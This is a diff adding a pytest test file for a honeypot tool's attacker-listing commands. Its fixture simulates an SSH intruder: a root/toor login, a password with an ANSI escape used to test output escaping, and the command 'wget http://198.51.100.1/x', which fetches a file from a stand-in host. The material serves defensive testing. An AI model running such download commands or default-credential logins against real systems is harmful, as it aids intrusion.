@@ -1,0 +1,67 @@
+# SPDX-License-Identifier: MIT
+"""`decnet attackers` and `decnet attacker` after a real profiler and a real ttp worker handled real events."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+from said import Run
+
+from decnet.place import Place, records
+from decnet_core.events.catalogue import CommandRun, LoginAttempt, SessionClosed, SessionOpened
+from decnet_core.runtime.worker import NoSettings
+from decnet_models.cursor import Batch
+from decnet_models.events.queries import events_after
+from decnet_workers.profiler.worker import Profiler
+
+
+@pytest.fixture
+def _intruder(place: Place, store: Callable[..., None]) -> None:
+    store(
+        LoginAttempt(service="ssh", username="root", password="\x1b[31mred", success=False),
+        LoginAttempt(service="ssh", username="root", password="toor", success=True),
+        SessionOpened(service="ssh", username="root"),
+        CommandRun(service="ssh", command="wget http://198.51.100.1/x"),
+        SessionClosed(service="ssh", duration_ms=4200, commands=1, recording="ab" * 32),
+    )
+    with records(place, write=True) as connection:
+        Profiler(NoSettings()).handle(Batch(connection, events_after(connection, 0, 100)))
+
+
+@pytest.mark.usefixtures("_intruder")
+def test_attackers_are_listed_with_score(run: Run) -> None:
+    assert "192.0.2.7" in run("attackers").out
+    (one,) = run("attackers", "--json").document
+    assert (one["ip"], one["logins"], one["logins_accepted"]) == ("192.0.2.7", 2, 1)
+    assert one["score"] > 0
+
+
+@pytest.mark.usefixtures("_intruder")
+def test_attacker_page_explains_the_score_and_escapes(run: Run) -> None:
+    said = run("attacker", "192.0.2.7")
+    assert said.code == 0
+    assert "\x1b" not in said.out
+    for text in ("points", "toor", r"\x1b[31mred", "wget http://198.51.100.1/x", "abababababababab"):
+        assert text in said.out
+
+
+@pytest.mark.usefixtures("_intruder")
+def test_attacker_document_has_everything(run: Run) -> None:
+    found = run("attacker", "192.0.2.7", "--json").document
+    assert sum(term["points"] for term in found["terms"]) == found["attacker"]["score"]
+    assert {"sessions", "credentials", "commands", "techniques", "canary_hits"} <= set(found)
+
+
+def test_unknown_address_is_not_found(run: Run, place: Place) -> None:
+    said = run("attacker", "192.0.2.99")
+    assert said.code == 1
+    assert "never seen" in said.err
+
+
+def test_what_is_no_address_is_said(run: Run, place: Place) -> None:
+    assert "write an IPv4 or IPv6 address" in run("attacker", "not-an-address").err
+
+
+def test_nobody_yet(run: Run, place: Place) -> None:
+    assert run("attackers").out == "nobody yet\n"
